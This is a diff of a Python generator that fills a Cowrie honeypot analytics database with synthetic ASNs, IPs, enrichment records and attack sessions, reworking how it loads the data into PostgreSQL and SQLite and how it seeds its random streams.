     def __init__(self, conn: Connection, dialect: str) -> None:
         self.conn = conn
         self.dialect = dialect
         self.pg = dialect == "postgresql"
-        self.driver: Any = conn.connection.driver_connection
+        driver = conn.connection.driver_connection
+        if driver is None:
+            raise DemoDataError("the connection has no DBAPI connection to write through")
+        self.driver: Any = driver
+        self.copier: _CopyThread | None = None
         if self.pg:
             cursor = self.driver.cursor()
             try:
@@ -556,9 +615,39 @@ class _Sink:
                 cursor.close()
             if not copies:
                 raise DemoDataError(
-                    "demo data on PostgreSQL is loaded with COPY through psycopg2: use a "
-                    "postgresql+psycopg2:// URL"
+                    "demo data is loaded into PostgreSQL with COPY through psycopg2: "
+                    "use a postgresql+psycopg2:// URL"
                 )
+
+    @contextmanager
+    def run(self) -> Iterator[None]:
+        """The whole load.
+
+        PostgreSQL: one transaction, the COPYs on their own thread. SQLite: the WAL is
+        checkpointed once, at the end; otherwise SQLite would checkpoint every ~4 MB,
+        copying the same (randomly keyed) index pages to the database file again and
+        again. The WAL grows to about the size of the new data meanwhile.
+        """
+        if self.pg:
+            with self.conn.begin():
+                copier = self.copier = _CopyThread(self.driver)
+                try:
+                    yield
+                    copier.flush()
+                except BaseException:
+                    copier.close(discard=True)
+                    raise
+                finally:
+                    self.copier = None
+                copier.close()
+            return
+        previous = int(self.driver.execute("PRAGMA wal_autocheckpoint").fetchone()[0])
+        self.driver.execute("PRAGMA wal_autocheckpoint = 0")
+        try:
+            yield
+        finally:
+            self.driver.execute(f"PRAGMA wal_autocheckpoint = {previous}")
+            self.driver.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchall()
 
     def chunk(self) -> AbstractContextManager[object]:
         """The transaction of one chunk: SQLite commits each chunk, PostgreSQL the run."""
@@ -569,22 +658,21 @@ class _Sink:
     def write(self, table: _Table, rows: Sequence[Row]) -> None:
         if not rows:
             return
+        if self.copier is not None:
+            self.copier.put(table.copy_sql, _copy_text(rows, table.columns))
+            return
         cursor = self.driver.cursor()
         try:
-            if self.pg:
-                buffer = io.StringIO()
-                csv.writer(buffer, lineterminator="\n").writerows(rows)
-                buffer.seek(0)
-                cursor.copy_expert(table.copy_sql, buffer)
-            else:
-                cursor.executemany(table.insert_sql, rows)
+            cursor.executemany(table.insert_sql, rows)
         finally:
             cursor.close()
 
     def existing(self, kind: str, keys: Sequence[object]) -> set[Any]:
         if not keys:
             return set()
-        param: object = list(keys) if self.pg else _json(list(keys))
+        if self.copier is not None:
+            self.copier.flush()  # the connection serves one statement at a time
+        param: object = list(keys) if self.pg else _JSON.encode(list(keys))
         sql = _EXISTING_SQL[(self.dialect, kind)]
         return {row[0] for row in self.conn.execute(sa.text(sql), {"keys": param})}
 
@@ -593,18 +681,18 @@ def _check_schema(engine: Engine) -> None:
     inspector = sa.inspect(engine)
     tables = set(inspector.get_table_names())
     missing = [t for t in _REQUIRED_TABLES if t not in tables]
-    hint = "run `alembic upgrade head` (or at least `alembic upgrade 0002_snapshot_columns`)"
+    hint = "run `alembic upgrade head` (at least `alembic upgrade 0002_snapshot_columns`) first"
     if missing:
         raise DemoDataError(
-            f"the database is not at Alembic revision 0002_snapshot_columns or later: "
-            f"table(s) {', '.join(missing)} missing; {hint} first"
+            "the database is not at Alembic revision 0002_snapshot_columns or later: "
+            f"table(s) {', '.join(missing)} missing; {hint}"
         )
     columns = {c["name"] for c in inspector.get_columns("session_summaries")}
     lacking = [c for c in SNAPSHOT_COLUMNS if c not in columns]
     if lacking:
         raise DemoDataError(
-            f"the database is not at Alembic revision 0002_snapshot_columns or later: "
-            f"session_summaries has no {', '.join(lacking)} column(s); {hint} first"
+            "the database is not at Alembic revision 0002_snapshot_columns or later: "
+            f"session_summaries has no {', '.join(lacking)} column(s); {hint}"
         )
 
 
@@ -628,16 +716,23 @@ def _validate(spec: DemoSpec, chunk_size: int) -> None:
         raise DemoDataError("invalid demo data spec: " + "; ".join(problems))
 
 
-# --- the plan: who attacks when, shared by the pre-pass and the real pass ----------------
+# --- the plan -------------------------------------------------------------------------
 
 
 @dataclass(frozen=True)
 class _Asn:
     number: int
     name: str
-    country: int  # index into _COUNTRIES
+    country: int  # index into _COUNTRIES (where the ASN is registered)
     kind: str
     weight: float
+
+    @functools.cached_property
+    def name_json(self) -> str:
+        return _JSON.encode(self.name)
+
+
+_KNOWN_SHARE = 0.25
 
 
 def _build_asns(rng: random.Random, count: int) -> list[_Asn]:
@@ -649,40 +744,97 @@ def _build_asns(rng: random.Random, count: int) -> list[_Asn]:
     while len(asns) < count:
         number = rng.randrange(1_000, 400_000)
         if number in used or number == 23_456 or 64_496 <= number <= 131_071:
-            continue  # AS_TRANS and the reserved / private ranges
+            continue  # AS_TRANS and the reserved, documentation and private ranges
         used.add(number)
-        country = rng.choices(range(len(_COUNTRIES)), cum_weights=_COUNTRY_CUM)[0]
+        country = rng.choices(_COUNTRY_RANGE, cum_weights=_COUNTRY_CUM)[0]
         kind = rng.choices(_KINDS, cum_weights=_KIND_CUM)[0]
-        words = _KIND_WORDS[kind]
         name = (
-            f"{rng.choice(_NAME_HEADS)}{rng.choice(_NAME_TAILS)} {rng.choice(words)} "
-            f"{rng.choice(_SUFFIXES)}"
+            f"{rng.choice(_NAME_HEADS)}{rng.choice(_NAME_TAILS)} "
+            f"{rng.choice(_KIND_WORDS[kind])} {rng.choice(_SUFFIXES)}"
         ).strip()
-        weight = min(rng.paretovariate(1.6), 20.0) * _COUNTRIES[country][2] / 6.0
+        weight = min(rng.paretovariate(1.6), 20.0)  # countries are skewed by their count
         asns.append(_Asn(number, name, country, kind, weight))
+    known = min(count, len(_KNOWN_ASNS))
+    synthetic = sum(a.weight for a in asns[known:])
+    if synthetic:  # the well-known networks keep _KNOWN_SHARE of the IPs, whatever the count
+        scale = _KNOWN_SHARE / (1 - _KNOWN_SHARE) * synthetic / sum(a.weight for a in asns[:known])
+        asns[:known] = [dataclasses.replace(a, weight=a.weight * scale) for a in asns[:known]]
     return asns
 
 
 _ZIPF_EXPONENT = 0.9
-_DURATION_MU = 3.0  # log-normal session duration: median ~20 s, long tail
+_DURATION_MU = 3.0  # log-normal session duration: median ~20 s, mean ~1 min, long tail
 _DURATION_SIGMA = 1.5
 _MAX_DURATION = 6 * 3600 * _SECOND
 
 
-class _AttackStream:
-    """IP and time of the matched sessions, in order; replayable from the seed.
+@functools.cache
+def _durations() -> tuple[int, ...]:
+    """Quantiles of the log-normal session duration (a lookup beats gauss() + exp())."""
+    law = statistics.NormalDist(_DURATION_MU, _DURATION_SIGMA)
+    n = 4096
+    return tuple(
+        min(int(math.exp(law.inv_cdf((i + 0.5) / n)) * _SECOND), _MAX_DURATION) + 200_000
+        for i in range(n)
+    )
 
-    The pre-pass and the real pass both read it from a fresh instance, so the
-    per-IP counts and first/last times computed up front match the sessions exactly.
-    Each IP gets one session (spread evenly through the stream) when there are enough
-    matched sessions; the others follow the Zipf-like weights.
+
+class _Timeline:
+    """Start and end times of ``total`` sessions, in ascending order of start.
+
+    The starts are the order statistics of ``total`` uniform draws over the year,
+    produced one after the other (a Poisson-like arrival process, streamed in O(1)
+    memory): the loader ingests in time order, and so does this, which also keeps
+    the time indexes' inserts at their right-hand edge.
     """
 
-    def __init__(self, seed: int, ips: int, matched: int, cum_weights: list[float]) -> None:
-        self._draw = random.Random(f"cowrie-demo/{seed}/ip-draw")
-        self._time = random.Random(f"cowrie-demo/{seed}/matched-time")
+    def __init__(self, rng: random.Random, total: int) -> None:
+        self._uniform = rng.random
+        self._left = total
+        self._at = 0.0  # fraction of the window reached
+
+    def take(self, k: int) -> tuple[list[int], list[int]]:
+        uniform, durations, at, left = self._uniform, _durations(), self._at, self._left
+        n = len(durations)
+        starts: list[int] = []
+        ends: list[int] = []
+        for _ in range(k):  # one start and one duration after the other, whatever k is
+            at += (1.0 - at) * (1.0 - uniform() ** (1.0 / left))
+            left -= 1
+            start = int(at * _WINDOW)
+            starts.append(start)
+            ends.append(start + durations[int(uniform() * n)])
+        self._at, self._left = at, left
+        return starts, ends
+
+
+class _Rngs:
+    """Independent, reproducible random streams, one per purpose, named under ``base``.
+
+    String seeds are hashed with SHA-512, whatever ``PYTHONHASHSEED`` is.
+    """
+
+    def __init__(self, base: str) -> None:
+        self.base = base
+
+    def __call__(self, name: str) -> random.Random:
+        return random.Random(f"{self.base}/{name}")
+
+
+class _AttackStream:
+    """IP and times of the matched sessions, in order, replayable from the seed.
+
+    The pre-pass and the real pass read it from two fresh instances, so the per-IP
+    counts and first/last times computed up front match the sessions exactly. Each IP
+    gets one session (spread evenly through the stream) when there are enough matched
+    sessions; the others follow the Zipf-like weights.
+    """
+
+    def __init__(self, rng: _Rngs, ips: int, matched: int, cum_weights: list[float]) -> None:
+        self._draw = rng("ip-draw")
+        self._time = _Timeline(rng("matched-time"), matched)
         self._ips = ips
-        self._matched = matched
+        self._matched = max(matched, 1)
         self._cum = cum_weights
         self._population = range(ips)
         self._j = 0
@@ -690,29 +842,21 @@ class _AttackStream:
     def take(self, k: int) -> tuple[list[int], list[int], list[int]]:
         draws = self._draw.choices(self._population, cum_weights=self._cum, k=k)
         ips, total, j0 = self._ips, self._matched, self._j
-        for t in range(k):
-            j = j0 + t
-            cover = (j * ips) // total
-            if j == 0 or cover != ((j - 1) * ips) // total:
-                draws[t] = cover
+        if ips >= total:  # no more sessions than IPs: each session covers the next IP
+            for t in range(k):
+                draws[t] = ((j0 + t) * ips) // total
+        else:  # IP c gets its own session at position ceil(c * total / ips)
+            c = (j0 * ips) // total
+            while (j := -(-c * total // ips)) < j0 + k:
+                if j >= j0:
+                    draws[j - j0] = c
+                c += 1
         self._j = j0 + k
-        starts, ends = _times(self._time, k)
+        starts, ends = self._time.take(k)
         return draws, starts, ends
 
 
-def _times(rng: random.Random, k: int) -> tuple[list[int], list[int]]:
-    uniform, gauss, exp = rng.random, rng.gauss, math.exp
-    starts = [int(uniform() * _WINDOW) for _ in range(k)]
-    ends = [
-        s
-        + min(int(exp(_DURATION_MU + _DURATION_SIGMA * gauss()) * _SECOND), _MAX_DURATION)
-        + 200_000
-        for s in starts
-    ]
-    return starts, ends
-
-
-# --- the generator ------------------------------------------------------------------
+# --- the generator --------------------------------------------------------------------
 
 
 class _Generator:
@@ -723,21 +867,22 @@ class _Generator:
         fmt: _Format,
         chunk_size: int,
         check: dict[str, bool],
+        salt: str,
     ) -> None:
+        self.rng = _Rngs(f"cowrie-demo/{spec.seed}{salt}")
         self.spec = spec
         self.sink = sink
         self.fmt = fmt
         self.chunk_size = chunk_size
-        self.check = check
-        seed = spec.seed
-        self.rng_asn = random.Random(f"cowrie-demo/{seed}/asn")
-        self.rng_ipattr = random.Random(f"cowrie-demo/{seed}/ip-attributes")
-        self.rng_ip = random.Random(f"cowrie-demo/{seed}/ip-rows")
-        self.rng_sel = random.Random(f"cowrie-demo/{seed}/select")
-        self.rng_unmatched = random.Random(f"cowrie-demo/{seed}/unmatched")
-        self.rng_sess = random.Random(f"cowrie-demo/{seed}/session-rows")
-        self.ip_stream = _IpStream(random.Random(f"cowrie-demo/{seed}/ip-keys"))
-        keys = random.Random(f"cowrie-demo/{seed}/session-keys")
+        self.check = check  # key kinds whose table had rows: look every new key up
+        self.rng_asn = self.rng("asn")
+        self.rng_ipattr = self.rng("ip-attributes")
+        self.rng_ip = self.rng("ip-rows")
+        self.rng_sel = self.rng("select")
+        self.rng_unmatched = self.rng("unmatched")
+        self.rng_sess = self.rng("session-rows")
+        self.ip_stream = _IpStream(self.rng("ip-keys"))
+        keys = self.rng("session-keys")
         self.sid_keys = (keys.getrandbits(48), keys.getrandbits(48))
         self.sid_counter = 0
         self.ingest_tag = f"{keys.getrandbits(32):08x}"
@@ -754,7 +899,7 @@ class _Generator:
         self.ip_asn = array("i")  # per inventory IP: index into self.asns
         self.ip_country = array("B")  # index into _COUNTRIES (where MaxMind places it)
         self.ip_v6 = bytearray()
-        self.ip_count = array("q")  # sessions per IP, and their first / last times
+        self.ip_count = array("q")  # sessions of each IP, and their first / last times
         self.ip_first = array("q")
         self.ip_last = array("q")
         self.cum_weights: list[float] = []
@@ -762,66 +907,62 @@ class _Generator:
         self.unmatched_pool: list[str] = []
         self.result = DemoResult(0, 0, 0, 0, 0, 0, 0.0)
 
-    # -- plan ------------------------------------------------------------------------
-
     def plan(self) -> None:
-        """Assign IPs to ASNs and countries, then replay the attacks to count them."""
+        """Give the IPs their ASN and country, then replay the attacks to count them."""
         spec, rng = self.spec, self.rng_ipattr
         ips = spec.ips
         if ips:
             asn_cum = list(itertools.accumulate(a.weight for a in self.asns))
-            self.ip_asn = array("i", rng.choices(range(len(self.asns)), cum_weights=asn_cum, k=ips))
+            asn_of = rng.choices(range(len(self.asns)), cum_weights=asn_cum, k=ips)
+            self.ip_asn = array("i", asn_of)
         self.ip_country = array("B", bytes(ips))
         self.ip_v6 = bytearray(ips)
-        countries = range(len(_COUNTRIES))
+        r = rng.random
         for idx in range(ips):
             asn = self.asns[self.ip_asn[idx]]
-            foreign = 0.35 if asn.kind == "hosting" else 0.04
-            if rng.random() < foreign:
-                self.ip_country[idx] = rng.choices(countries, cum_weights=_COUNTRY_CUM)[0]
+            if r() < (0.35 if asn.kind == "hosting" else 0.04):  # hosted abroad
+                self.ip_country[idx] = rng.choices(_COUNTRY_RANGE, cum_weights=_COUNTRY_CUM)[0]
             else:
                 self.ip_country[idx] = asn.country
-            self.ip_v6[idx] = rng.random() < spec.ipv6_fraction
+            self.ip_v6[idx] = r() < spec.ipv6_fraction
 
-        self.ip_count = array("q", bytes(8 * ips))
-        self.ip_first = array("q", [_WINDOW * 2]) * ips
-        self.ip_last = array("q", [-1]) * ips
+        count = self.ip_count = array("q", bytes(8 * ips))
+        first = self.ip_first = array("q", [2 * _WINDOW]) * ips
+        last = self.ip_last = array("q", [-1]) * ips
         self.cum_weights = list(
             itertools.accumulate(1.0 / (k + 1) ** _ZIPF_EXPONENT for k in range(ips))
         )
-        if self.n_matched:
-            stream = _AttackStream(spec.seed, ips, self.n_matched, self.cum_weights)
-            count, first, last = self.ip_count, self.ip_first, self.ip_last
-            left = self.n_matched
-            while left:
-                k = min(self.chunk_size, left)
-                left -= k
-                draws, starts, ends = stream.take(k)
-                for ip, s, e in zip(draws, starts, ends, strict=True):
-                    count[ip] += 1
-                    if s < first[ip]:
-                        first[ip] = s
-                    if e > last[ip]:
-                        last[ip] = e
-        idle = random.Random(f"cowrie-demo/{spec.seed}/idle-ips")
+        stream = _AttackStream(self.rng, ips, self.n_matched, self.cum_weights)
+        left = self.n_matched
+        while left:
+            k = min(self.chunk_size, left)
+            left -= k
+            draws, starts, ends = stream.take(k)
+            for ip, s, e in zip(draws, starts, ends, strict=True):
+                count[ip] += 1
+                if s < first[ip]:
+                    first[ip] = s
+                if e > last[ip]:
+                    last[ip] = e
+        idle = self.rng("idle-ips")
         for idx in range(ips):
-            if not self.ip_count[idx]:  # an IP seen only in a scan never summarised
-                self.ip_first[idx] = int(idle.random() * _WINDOW)
-                self.ip_last[idx] = self.ip_first[idx] + idle.randrange(_SECOND, 30 * _DAY)
+            if not count[idx]:  # more IPs than sessions: an IP without a session
+                first[idx] = int(idle.random() * _WINDOW)
+                last[idx] = first[idx] + idle.randrange(_SECOND, 30 * _DAY)
 
-    # -- ASNs ----------------------------------------------------------------------------
+    # -- ASNs ------------------------------------------------------------------------
 
     def write_asns(self) -> None:
         n = len(self.asns)
         ips = array("q", bytes(8 * n))
         sessions = array("q", bytes(8 * n))
-        first = array("q", [_WINDOW * 2]) * n
-        last = array("q", [-_WINDOW]) * n
-        for idx, a in enumerate(self.ip_asn):
-            ips[a] += 1
-            sessions[a] += self.ip_count[idx]
-            first[a] = min(first[a], self.ip_first[idx])
-            last[a] = max(last[a], self.ip_last[idx])
+        first = array("q", [2 * _WINDOW]) * n
+        last = array("q", [-1]) * n
+        for idx, owner in enumerate(self.ip_asn):
+            ips[owner] += 1
+            sessions[owner] += self.ip_count[idx]
+            first[owner] = min(first[owner], self.ip_first[idx])
+            last[owner] = max(last[owner], self.ip_last[idx])
         fmt, rng = self.fmt, self.rng_asn
         rows: list[Row] = []
         for i, a in enumerate(self.asns):
@@ -829,34 +970,20 @@ class _Generator:
                 first[i] = int(rng.random() * _WINDOW)
                 last[i] = first[i] + rng.randrange(_DAY, 60 * _DAY)
             enriched = last[i] + rng.randrange(_SECOND, 3 * _DAY)
-            code, _name, _w, registry, _lat, _lon = _COUNTRIES[a.country]
-            enrichment = {
-                "source": "cymru",
-                "asn": a.number,
-                "description": a.name,
-                "country": code,
-                "registry": registry.lower(),
-                "allocated": f"{rng.randrange(1996, 2024)}-{rng.randrange(1, 13):02d}-"
-                f"{rng.randrange(1, 29):02d}",
-                "prefix_count": rng.randrange(1, 4000),
-            }
+            code, registry = _COUNTRIES[a.country][0], _COUNTRIES[a.country][4]
+            allocated = f"{rng.randrange(1996, 2024)}-{rng.randrange(1, 13):02d}-01"
+            enrichment = (
+                f'{{"source":"cymru","asn":{a.number},"description":{a.name_json},'
+                f'"country":"{code}","registry":"{registry.lower()}",'
+                f'"allocated":"{allocated}","prefix_count":{rng.randrange(1, 4000)}}}'
+            )
             rows.append(
                 (
-                    a.number,
-                    a.name,
-                    code,
-                    registry,
-                    a.kind,
-                    fmt.ts(first[i]),
-                    fmt.ts(last[i]),
-                    ips[i],
-                    sessions[i],
-                    _json(enrichment),
-                    fmt.ts(enriched),
-                    fmt.ts(first[i]),
-                    fmt.ts(enriched),
+                    a.number, a.name, code, registry, a.kind, fmt.ts(first[i]),
+                    fmt.ts(last[i]), ips[i], sessions[i], enrichment, fmt.ts(enriched),
+                    fmt.ts(first[i]), fmt.ts(enriched),
                 )
-            )
+            )  # fmt: skip
         with self.sink.chunk():
             if self.check["asn"]:  # an ASN that exists already is reused as it is
                 taken = self.sink.existing("asn", [row[0] for row in rows])
@@ -864,15 +991,15 @@ class _Generator:
             self.sink.write(_ASN_TABLE, rows)
         self.result.asns = len(rows)
 
-    # -- IPs -----------------------------------------------------------------------------
+    # -- IPs -------------------------------------------------------------------------
 
     def _ip_string(self, idx: int) -> str:
         if self.ip_v6[idx]:
-            return self.ip_stream.v6(_COUNTRIES[self.ip_country[idx]][3])
+            return self.ip_stream.v6(_COUNTRIES[self.ip_country[idx]][4])
         return self.ip_stream.v4()
 
     def _fresh(self, kind: str, keys: list[str], regenerate: Callable[[int], str]) -> None:
-        """Replace, in place, every key that already exists in the database."""
+        """Replace, in place, each key that exists already by the next of its stream."""
         if not self.check[kind]:
             return
         todo = list(range(len(keys)))
@@ -884,8 +1011,9 @@ class _Generator:
 
     def write_ips(self) -> None:
         ips = self.spec.ips
-        for lo in range(0, ips, self.chunk_size):
-            hi = min(ips, lo + self.chunk_size)
+        step = max(1, self.chunk_size // 4)  # an IP row is ~4 times the size of a session's
+        for lo in range(0, ips, step):
+            hi = min(ips, lo + step)
             strings = [self._ip_string(idx) for idx in range(lo, hi)]
 
             def again(i: int, lo: int = lo) -> str:
@@ -893,136 +1021,116 @@ class _Generator:
 
             with self.sink.chunk():
                 self._fresh("ip", strings, again)
-                rows = [
-                    self._ip_row(idx, ip) for idx, ip in zip(range(lo, hi), strings, strict=True)
-                ]
+                rows = [self._ip_row(lo + i, ip) for i, ip in enumerate(strings)]
                 self.sink.write(_IP_TABLE, rows)
             self.ip_strings.extend(strings)
         self.result.ips = ips
-        # The IPs of the unmatched sessions: never in the inventory (same bijection,
-        # later counters; and checked against rows that were already there).
+
+        # The IPs of the unmatched sessions: later values of the same bijections, so
+        # never one of the new inventory IPs; checked against rows that were there.
         if self.n_unmatched:
-            pool_size = max(1, math.ceil(self.n_unmatched / 4))
             rng = self.rng_unmatched
 
             def unmatched_ip(_i: int) -> str:
                 if rng.random() < self.spec.ipv6_fraction:
-                    registry = _COUNTRIES[
-                        rng.choices(range(len(_COUNTRIES)), cum_weights=_COUNTRY_CUM)[0]
-                    ][3]
-                    return self.ip_stream.v6(registry)
+                    country = rng.choices(_COUNTRY_RANGE, cum_weights=_COUNTRY_CUM)[0]
+                    return self.ip_stream.v6(_COUNTRIES[country][4])
                 return self.ip_stream.v4()
 
-            pool = [unmatched_ip(i) for i in range(pool_size)]
+            pool = [unmatched_ip(i) for i in range(max(1, math.ceil(self.n_unmatched / 4)))]
             with self.sink.chunk():
                 self._fresh("ip", pool, unmatched_ip)
             self.unmatched_pool = pool
 
     def _ip_row(self, idx: int, ip: str) -> Row:
-        fmt, r = self.fmt, self.rng_ip.random
-        rng = self.rng_ip
+        fmt, rng = self.fmt, self.rng_ip
+        r = rng.random
         asn = self.asns[self.ip_asn[idx]]
-        code, cname, _w, registry, lat, lon = _COUNTRIES[self.ip_country[idx]]
-        asn_code = _COUNTRIES[asn.country][0]
+        code, cname, city, _w, _registry, lat, lon = _COUNTRIES[self.ip_country[idx]]
+        asn_code, registry = _COUNTRIES[asn.country][0], _COUNTRIES[asn.country][4]
         first, last, count = self.ip_first[idx], self.ip_last[idx], self.ip_count[idx]
-        enriched: int | None = last + rng.randrange(_SECOND, 3 * _DAY)
+        enriched: int | None = last + _SECOND + int(r() * 3 * _DAY)
         if r() < 0.005:
             enriched = None
-        stamp = _cowrie_ts(enriched if enriched is not None else last)
+        stamp = _cowrie_ts(last if enriched is None else enriched)
+        types = _ip_types(r, asn.kind)
+        prefix = _prefix(ip)
+        name = asn.name_json
 
-        types = _ip_types(rng, asn.kind)
-        enrichment: dict[str, object] = {}
-        maxmind = {
-            "country": code,
-            "country_name": cname,
-            "city": None if r() < 0.4 else f"{cname} City {rng.randrange(1, 40)}",
-            "latitude": round(lat + rng.uniform(-3, 3), 4),
-            "longitude": round(lon + rng.uniform(-3, 3), 4),
-            "accuracy_radius": rng.choice((5, 20, 50, 100, 500, 1000)),
-            "asn": asn.number,
-            "asn_org": asn.name,
-        }
-        cymru = {
-            "asn": asn.number,
-            "asn_name": asn.name,
-            "country": asn_code,
-            "prefix": _prefix(ip),
-            "registry": registry.lower(),
-        }
-        dshield = {
-            "ip": {
-                "asn": str(asn.number),
-                "asname": asn.name,
-                "ascountry": asn_code,
-                "count": str(count),
-                "attacks": str(count * rng.randrange(1, 6)),
-                "network": _prefix(ip),
-            }
-        }
+        maxmind = (
+            f'"maxmind":{{"country":"{code}","country_name":"{cname}",'
+            f'"city":{"null" if r() < 0.4 else _JSON.encode(city)},'
+            f'"latitude":{lat + 6 * r() - 3:.4f},"longitude":{lon + 6 * r() - 3:.4f},'
+            f'"accuracy_radius":{(5, 20, 50, 100, 500, 1000)[int(r() * 6)]},'
+            f'"asn":{asn.number},"asn_org":{name}}}'
+        )
+        cymru = (
+            f'"cymru":{{"asn":{asn.number},"asn_name":{name},"country":"{asn_code}",'
+            f'"prefix":"{prefix}","registry":"{registry.lower()}"}}'
+        )
+        dshield = (
+            f'"dshield":{{"ip":{{"asn":"{asn.number}","asname":{name},'
+            f'"ascountry":"{asn_code}","count":"{count}",'
+            f'"attacks":"{count * (1 + int(r() * 5))}","network":"{prefix}"}}}}'
+        )
+        parts: list[str] = []
         roll = r()
-        if roll < 0.90:  # MaxMind knows the country (most of the time the others too)
-            enrichment["maxmind"] = maxmind
+        if roll < 0.90:  # MaxMind knows the country; usually the others too
+            parts.append(maxmind)
             if r() < 0.85:
-                enrichment["cymru"] = cymru
+                parts.append(cymru)
             if r() < 0.7:
-                enrichment["dshield"] = dshield
+                parts.append(dshield)
         elif roll < 0.95:  # no MaxMind record: Cymru's registration country
-            enrichment["cymru"] = cymru
+            parts.append(cymru)
             if r() < 0.5:
-                enrichment["dshield"] = dshield
+                parts.append(dshield)
         elif roll < 0.99:  # DShield only
-            enrichment["dshield"] = dshield
+            parts.append(dshield)
         elif r() < 0.5:  # no country anywhere: geo_country becomes 'XX'
-            enrichment["maxmind"] = {"country": None, "asn": asn.number, "asn_org": asn.name}
+            parts.append(f'"maxmind":{{"country":null,"asn":{asn.number},"asn_org":{name}}}')
+        scanner = False
         if roll < 0.99 or r() < 0.5:
             if r() < 0.5:
-                enrichment["spur"] = _spur(rng, asn, types)
+                parts.append(_spur(r, asn, types))
             if r() < 0.65:
-                noise = r() < 0.6
-                enrichment["greynoise"] = {
-                    "noise": noise,
-                    "riot": False,
-                    "classification": "malicious" if noise and r() < 0.7 else "unknown",
-                    "last_seen": _day(last),
-                }
-            enrichment["validation"] = {
-                "is_bogon": False,
-                "is_private": False,
-                "is_reserved": False,
-                "checked_at": stamp,
-            }
-        greynoise = enrichment.get("greynoise")
-        scanner = bool(isinstance(greynoise, dict) and greynoise["noise"])
+                scanner = r() < 0.6
+                label = "malicious" if scanner and r() < 0.7 else "unknown"
+                parts.append(
+                    f'"greynoise":{{"noise":{"true" if scanner else "false"},"riot":false,'
+                    f'"classification":"{label}","last_seen":"{_day(last)}"}}'
+                )
+            parts.append(
+                '"validation":{"is_bogon":false,"is_private":false,"is_reserved":false,'
+                f'"checked_at":"{stamp}"}}'
+            )
+        enrichment = "{" + ",".join(parts) + "}"
         return (
-            ip,
-            asn.number,
-            fmt.ts(enriched),
-            fmt.ts(first),
-            fmt.ts(last),
-            count,
-            _json(enrichment),
-            fmt.ts(enriched),
-            "2.2",
-            fmt.ip_types(types),
-            fmt.flag(scanner),
-            fmt.false,
-            fmt.ts(first),
-            fmt.ts(enriched if enriched is not None else last),
-        )
+            ip, asn.number, fmt.ts(enriched), fmt.ts(first), fmt.ts(last), count, enrichment,
+            fmt.ts(enriched), "2.2", fmt.ip_types(types), fmt.flag(scanner), fmt.false,
+            fmt.ts(first), fmt.ts(last if enriched is None else enriched),
+        )  # fmt: skip
 
-    # -- sessions and events -----------------------------------------------------------
+    # -- sessions and their events ---------------------------------------------------
 
     def _session_id(self, _i: int = 0) -> str:
         value = _mix48(self.sid_counter, *self.sid_keys)
         self.sid_counter += 1
         return f"{value:012x}"
 
+    def _session_ids(self, n: int) -> list[str]:
+        k1, k2 = self.sid_keys
+        first = self.sid_counter
+        self.sid_counter += n
+        return [f"{_mix48(c, k1, k2):012x}" for c in range(first, first + n)]
+
     def write_sessions(self, on_progress: Callable[[int, int], None] | None) -> None:
+        self._prepare_sessions()
         spec = self.spec
         total = spec.sessions
-        stream = _AttackStream(spec.seed, spec.ips, max(self.n_matched, 1), self.cum_weights)
-        unmatched_time = random.Random(f"cowrie-demo/{spec.seed}/unmatched-time")
-        sel = self.rng_sel.random
+        stream = _AttackStream(self.rng, spec.ips, self.n_matched, self.cum_weights)
+        unmatched_times = _Timeline(self.rng("unmatched-time"), self.n_unmatched)
+        sel, pick, pool = self.rng_sel.random, self.rng_unmatched.random, self.unmatched_pool
         u_left, r_left = self.n_unmatched, self.n_raw_only
         done = 0
         while done < total:
@@ -1030,7 +1138,7 @@ class _Generator:
             unmatched: list[bool] = []
             raw_only: list[bool] = []
             for i in range(done, done + n):
-                remaining = total - i  # selection sampling: exact counts, random positions
+                remaining = total - i  # selection sampling: exact counts, random places
                 u = sel() * remaining < u_left
                 u_left -= u
                 ro = sel() * remaining < r_left
@@ -1038,32 +1146,15 @@ class _Generator:
                 unmatched.append(u)
                 raw_only.append(ro)
             n_un = sum(unmatched)
-            m_ips, m_starts, m_ends = stream.take(n - n_un)
-            u_starts, u_ends = _times(unmatched_time, n_un)
-            u_ips = [
-                self.unmatched_pool[
-                    int(self.rng_unmatched.random() ** 1.5 * len(self.unmatched_pool))
-                ]
-                for _ in range(n_un)
-            ]
-            ids = [self._session_id() for _ in range(n)]
-            sessions: list[Row] = []
-            events: list[Row] = []
-            mi = ui = 0
+            matched = stream.take(n - n_un)
+            u_ips = [pool[int(pick() ** 1.5 * len(pool))] for _ in range(n_un)]
+            u_starts, u_ends = unmatched_times.take(n_un)
+            ids = self._session_ids(n)
             with self.sink.chunk():
                 self._fresh("session", ids, self._session_id)
-                for k in range(n):
-                    if unmatched[k]:
-                        ip_idx, ip = -1, u_ips[ui]
-                        start, end = u_starts[ui], u_ends[ui]
-                        ui += 1
-                    else:
-                        ip_idx = m_ips[mi]
-                        ip, start, end = self.ip_strings[ip_idx], m_starts[mi], m_ends[mi]
-                        mi += 1
-                    sessions.append(
-                        self._session_row(ids[k], ip, ip_idx, start, end, raw_only[k], events)
-                    )
+                sessions, events = self._session_rows(
+                    ids, unmatched, raw_only, matched, (u_ips, u_starts, u_ends)
+                )
                 self.sink.write(_SESSION_TABLE, sessions)
                 self.sink.write(_EVENT_TABLE, events)
             done += n
@@ -1074,115 +1165,88 @@ class _Generator:
             if on_progress is not None:
                 on_progress(done, total)
 
-    def _session_row(
+    def _prepare_sessions(self) -> None:
+        """Lookup tables for the session rows (drawing from them is cheaper than building)."""
+        self.profiles = _behaviours(self.rng("behaviours"), self.fmt)
+        self.metas = _metadata(self.rng("metadata"))
+        self.asn_dshield = [  # the start of the "dshield" section, per ASN
+            f'"dshield":{{"ip":{{"asn":"{a.number}","asname":{a.name_json},'
+            f'"ascountry":"{_COUNTRIES[a.country][0]}",'
+            for a in self.asns
+        ]
+
+    def _session_rows(
         self,
-        sid: str,
-        ip: str,
-        ip_idx: int,
-        start: int,
-        end: int,
-        raw_only: bool,
-        events: list[Row],
-    ) -> Row:
-        fmt, rng = self.fmt, self.rng_sess
-        r = rng.random
-        kind = r()
-        commands = downloads = keys = 0
-        if kind < 0.42:  # scanner: connects, maybe one login, leaves
-            logins = 0 if r() < 0.6 else 1
-        elif kind < 0.80:  # password brute force
-            logins = 1 + int(rng.expovariate(0.25))
-        elif kind < 0.985:  # bot that gets a shell
-            logins = 1 + int(rng.expovariate(0.7))
-            commands = 1 + int(rng.expovariate(0.1))
-            downloads = rng.randint(1, 3) if r() < 0.3 else 0
-            keys = 1 if r() < 0.12 else 0
-        else:  # long interactive session
-            logins = rng.randint(1, 5)
-            commands = rng.randint(20, 300)
